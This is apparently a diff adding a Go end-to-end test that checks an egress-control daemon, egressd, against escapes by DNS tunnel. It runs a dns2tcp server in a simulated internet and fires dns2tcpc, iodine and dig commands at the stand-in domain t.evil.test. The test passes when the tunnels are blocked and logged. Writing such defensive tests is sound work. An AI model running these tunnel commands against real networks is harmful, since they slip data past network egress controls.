@@ -1,0 +1,108 @@
+package e2e
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/egressd/egressd/policy"
+)
+
+// tunnelServer is the host in the internet at which a tunnel through names ends.
+const tunnelServer = "151.101.1.53"
+
+// TestEscapesByTunnelsThroughNames has dns2tcp and iodine talk to their servers,
+// and looks that the first of them would get through without egressd. iodine has
+// no interface inside to begin with, so that its first questions are asked by dig.
+func TestEscapesByTunnelsThroughNames(t *testing.T) {
+	d := newDaemon(t, runPolicy)
+	d.serveTunnel(t)
+	for _, kind := range []string{"TXT", "KEY"} {
+		client := fmt.Sprintf(`sleep 1 | timeout 3 dns2tcpc -T %s -t 1 -z t.evil.test -k k -r svc -l - %s 2>&1`, kind, tunnelServer)
+		if out := d.unheld(t, client); !strings.Contains(out, "through the tunnel") {
+			t.Fatalf("without egressd, by %s: %q", kind, out)
+		}
+		for user := range users {
+			t.Run(user+"/dns2tcp by "+kind, func(t *testing.T) {
+				r := d.tries(t, user, escape{script: client + "; echo done", out: "done"})
+				if strings.Contains(r.out, "through") {
+					t.Errorf("printed %q", r.out)
+				}
+				for _, rec := range r.records {
+					if rec.Via == string(policy.ViaDNS) && strings.Contains(rec.Raw, "t.evil.test") && rec.Decision != nil {
+						return
+					}
+				}
+				t.Errorf("no record: %+v", r.records)
+			})
+		}
+	}
+	for user := range users {
+		for _, kind := range []string{"NULL", "TYPE65399", "TXT", "SRV", "MX", "CNAME", "A"} {
+			t.Run(user+"/iodine by "+kind, func(t *testing.T) {
+				d.tries(t, user, escape{script: `timeout 5 iodine -f -P x -r ` + tunnelServer + ` t.evil.test 2>&1; dig +time=3 +tries=1 @` + tunnelServer + ` vaaaakardli.t.evil.test ` + kind + ` | grep -c 'IN.*` + kind + `.*VACK'; echo done`, out: "0\ndone\n"})
+			})
+		}
+	}
+}
+
+// serveTunnel runs the server of dns2tcp in the internet, with a service behind it.
+func (d *daemon) serveTunnel(t *testing.T) {
+	t.Helper()
+	l, err := d.world.Internet.Listen("tcp", "127.0.0.1:7000")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			io.WriteString(c, "through the tunnel\n")
+			c.Close()
+		}
+	}()
+	config := filepath.Join(d.dir, "dns2tcpd.conf")
+	text := "listen = " + tunnelServer + "\nport = 53\ndomain = t.evil.test\nresources = svc:127.0.0.1:7000\nkey = k\n"
+	if err := os.WriteFile(config, []byte(text), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	server := exec.CommandContext(ctx, "dns2tcpd", "-F", "-d", "1", "-f", config)
+	var talk bytes.Buffer
+	server.Stderr = &talk
+	if err := d.world.Internet.Start(server); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { cancel(); server.Wait() })
+	if !eventually(5*time.Second, func() bool {
+		c, err := d.world.Internet.ListenPacket("udp4", tunnelServer+":53")
+		if err == nil {
+			c.Close()
+		}
+		return err != nil // the server has the port
+	}) {
+		t.Fatalf("no server: %s", talk.String())
+	}
+}
+
+// unheld runs a script in the gateway, without egressd.
+func (d *daemon) unheld(t *testing.T, script string) string {
+	t.Helper()
+	var out bytes.Buffer
+	cmd := exec.CommandContext(t.Context(), "sh", "-c", script)
+	cmd.Stdout, cmd.Dir = &out, d.dir
+	if err := d.world.Gateway.Run(cmd); err != nil && cmd.ProcessState == nil {
+		t.Fatal(err)
+	}
+	return out.String()
+}
